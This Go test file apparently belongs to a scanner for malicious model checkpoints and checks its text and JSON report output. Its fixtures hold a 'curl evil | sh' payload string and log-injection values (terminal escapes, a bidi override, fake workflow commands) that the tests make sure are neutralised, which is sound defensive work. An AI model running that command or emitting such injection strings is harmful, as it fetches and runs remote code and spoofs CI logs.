package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/modelgate/modelgate/finding"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// sampleReport is a hand-built report: a malicious PyTorch checkpoint, a
// pickle whose strings carry terminal escapes and a workflow command, a
// clean file, a not-scanned file and a skipped one.
func sampleReport() *finding.Report {
	files := []finding.FileResult{
		{Path: "clean/weights.safetensors", Format: "safetensors", Status: finding.StatusScanned, Size: 1024},
		{Path: "docs/readme.txt", Format: "", Status: finding.StatusSkipped, Size: 10},
		{Path: "models/evil.pt", Format: "pytorch", Status: finding.StatusScanned, Size: 2048,
			Members: []string{"archive/data.pkl", "archive/version"},
			Findings: []finding.Finding{
				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper",
					Suppression: &finding.Suppression{Kind: "external", Justification: "our helper\n::warning::x"}},
				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.other", Member: "archive/data.pkl", Offset: 99, Length: 20, Callable: "mypkg.other", Baseline: "unchanged"},
				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
			}},
		{Path: "odd dir/x:y.pkl", Format: "pickle", Status: finding.StatusPartial, Size: 64,
			Findings: []finding.Finding{
				{Rule: finding.RuleMalformedPickle, Severity: finding.Medium, Message: "stream ends without STOP at offset 60", Offset: 60, Length: 1},
				{Rule: finding.RuleUnknownCall, Severity: finding.High, Message: "calls evil.run with ('\x1b[31m::error::pwned\n',)", Offset: 3, Length: 9, Callable: "evil.run\u202e", Evidence: "evil.run('\x1b[31m::error::pwned\\n')"},
			}},
		{Path: "big/model.bin", Format: "pickle", Status: finding.StatusNotScanned, Size: 1 << 30,
			Findings: []finding.Finding{
				{Rule: finding.RuleUnscannable, Severity: finding.High, Message: "file exceeds the 512 MiB size limit", Offset: -1},
			}},
		{Path: "::error file=x::owned.pkl", Format: "pickle", Status: finding.StatusScanned, Size: 64,
			Findings: []finding.Finding{
				{Rule: finding.RuleUnknownImport, Severity: finding.Low, Message: "::warning::message from the file", Offset: 7},
			}},
	}
	return &finding.Report{Files: files, Summary: finding.Summarize(files, 2)}
}

func cleanReport() *finding.Report {
	files := []finding.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: finding.StatusScanned, Size: 8}}
	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test -update): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", name, diff)
	}
}

func TestText(t *testing.T) {
	tests := []struct {
		name   string
		report *finding.Report
		opts   TextOptions
	}{
		{"findings", sampleReport(), TextOptions{}},
		{"findings_color", sampleReport(), TextOptions{Color: true}},
		{"clean", cleanReport(), TextOptions{}},
		{"empty", &finding.Report{Summary: finding.Summarize(nil, 0)}, TextOptions{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Text(&buf, tt.report, tt.opts); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name+".txt", buf.Bytes())
			out := buf.String()
			if !tt.opts.Color && strings.ContainsRune(out, 0x1b) {
				t.Error("text output without colour holds an ESC byte")
			}
			if strings.ContainsRune(out, '\u202e') {
				t.Error("text output holds a bidi override")
			}
			for _, line := range strings.Split(out, "\n") {
				if strings.HasPrefix(strings.TrimSpace(line), "::") {
					t.Errorf("a line starts a workflow command: %q", line)
				}
			}
		})
	}
}

func TestTextOrder(t *testing.T) {
	var buf bytes.Buffer
	if err := Text(&buf, sampleReport(), TextOptions{}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	// The critical file comes first, the clean ones not at all.
	iEvil, iOdd, iBig := strings.Index(out, "models/evil.pt"), strings.Index(out, "odd dir/x:y.pkl"), strings.Index(out, "big/model.bin")
	if iEvil < 0 || iOdd < 0 || iBig < 0 || iEvil > iBig || iBig > iOdd {
		t.Errorf("files out of order (evil %d, big %d, odd %d):\n%s", iEvil, iBig, iOdd, out)
	}
	if strings.Contains(out, "weights.safetensors") {
		t.Error("a file without findings is listed")
	}
	if i, j := strings.Index(out, "os.system"), strings.Index(out, "mypkg.helper"); i > j {
		t.Error("medium finding printed before the critical one")
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, sampleReport(), Tool{Name: "modelgate", Version: "devel"}); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.json", buf.Bytes())

	var got struct {
		Tool  Tool `json:"tool"`
		Files []struct {
			Path     string            `json:"path"`
			Format   string            `json:"format"`
			Status   string            `json:"status"`
			Members  []string          `json:"members"`
			Findings []json.RawMessage `json:"findings"`
		} `json:"files"`
		Summary map[string]any `json:"summary"`
	}
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if got.Tool.Version != "devel" || len(got.Files) != 6 {
		t.Fatalf("tool %+v, %d files", got.Tool, len(got.Files))
	}
	for _, f := range got.Files {
		if f.Members == nil || f.Findings == nil {
			t.Errorf("%s: members or findings is null", f.Path)
		}
	}
	if got.Summary["highest"] != "critical" {
		t.Errorf("summary.highest = %v", got.Summary["highest"])
	}
	var fd map[string]any
	if err := json.Unmarshal(got.Files[2].Findings[0], &fd); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"rule", "severity", "message", "member", "offset"} {
		if _, ok := fd[k]; !ok {
			t.Errorf("finding lacks %q: %v", k, fd)
		}
	}
}

func TestSummaryLine(t *testing.T) {
	tests := []struct {
		name string
		sum  finding.Summary
		want string
	}{
		{"none", finding.Summarize(nil, 0), "modelgate: 0 model files; no findings"},
		{"clean", cleanReport().Summary, "modelgate: 1 model file (1 safetensors); no findings"},
		{"findings", sampleReport().Summary, "modelgate: 5 model files (3 pickle, 1 pytorch, 1 safetensors), 1 partly scanned, 1 not scanned, 1 other file skipped, 2 excluded; 6 findings: 2 critical, 2 high, 1 medium, 1 low; 1 suppressed by the policy file; 1 already in the baseline"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SummaryLine(tt.sum); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// TestNextStepEveryRule: every rule tells the reviewer what to do.
func TestNextStepEveryRule(t *testing.T) {
	for _, r := range finding.Rules() {
		if NextStep(r.ID) == "" {
			t.Errorf("rule %s has no next step", r.ID)
		}
	}
}
